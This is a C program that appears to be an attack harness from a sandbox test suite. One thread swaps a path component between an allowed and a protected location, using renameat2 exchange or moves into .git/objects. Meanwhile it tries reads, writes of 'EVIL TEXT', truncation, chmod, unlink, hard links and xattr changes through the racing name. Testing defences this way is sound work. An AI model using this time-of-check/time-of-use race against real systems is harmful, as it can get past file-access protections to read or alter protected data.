/* A name in the tree that changes between an open object and a closed one while a call resolves it:
 * name CALL FLIPPED PATH CLOSED SECONDS. FLIPPED and FLIPPED.2 are exchanged, PATH is used; "move" moves FLIPPED,
 * the current directory, to .git/objects/ and back and uses PATH from there. */
#include "attack.h"

static const char *path;
static char one[256], other[256];
static int is_move;

static void *flip(void *unused) {
    for (unsigned i = 0; !stop; i++) {
        if (is_move) rename(i & 1 ? other : one, i & 1 ? one : other);
        else syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, 2);
    }
    return unused;
}

static void read_it(void) { look(open(path, O_RDONLY)); }
static void read_by_path(void) {
    char link[64];
    int fd = open(path, O_PATH);
    sprintf(link, "/proc/self/fd/%d", fd);
    look(open(link, O_RDONLY));
    close(fd);
}
static void write_it(void) {
    int fd = open(path, O_WRONLY);
    count(fd < 0 ? -1 : write(fd, "EVIL TEXT", 9));
    close(fd);
}
static void create(void) {
    int fd = open(path, O_WRONLY | O_CREAT, 0600);
    count(fd);
    close(fd);
}
static void truncate_it(void) { count(truncate(path, 3)); }
static void chmod_it(void) { count(chmod(path, 0640)); }
static void unlink_it(void) { count(unlink(path)); }
static void mkdir_it(void) {
    count(mkdir(path, 0700));
}
static void rename_to(void) {
    fill("mine", "EVIL TEXT");
    count(rename("mine", path));
}
static void link_from(void) {
    count(linkat(AT_FDCWD, path, AT_FDCWD, "linked", AT_SYMLINK_FOLLOW));
    look(open("linked", O_RDONLY));
    unlink("linked");
}
static void setxattr_it(void) { count(setxattr(path, "user.x", "1", 1, 0)); }

static const struct {
    const char *name;
    void (*attempt)(void);
} calls[] = {
    {"read", read_it}, {"read-by-path", read_by_path}, {"write", write_it}, {"create", create},
    {"truncate", truncate_it}, {"chmod", chmod_it}, {"unlink", unlink_it}, {"mkdir", mkdir_it},
    {"rename-to", rename_to}, {"link-from", link_from}, {"setxattr", setxattr_it}, {"move-write", write_it},
    {"move-read", read_it},
};

int main(int argc, char **argv) {
    if (argc != 6) return 2;
    char here[200];
    if (!getcwd(here, sizeof here)) return 3;
    snprintf(one, sizeof one, "%.120s/%.100s", here, argv[2]);
    snprintf(other, sizeof other, "%.120s/%.100s.2", here, argv[2]);
    path = argv[3];
    is_move = strncmp(argv[1], "move-", 5) == 0;
    if (is_move) snprintf(other, sizeof other, "%.120s/.git/objects/moved", here);
    static char watched[256];
    snprintf(watched, sizeof watched, "%.120s/%.100s", here, argv[4]);
    watch(watched);
    if (is_move && chdir(one) != 0) return 4;
    for (size_t i = 0; i < sizeof calls / sizeof *calls; i++)
        if (strcmp(calls[i].name, argv[1]) == 0) return attack(atof(argv[5]), flip, calls[i].attempt);
    return 2;
}
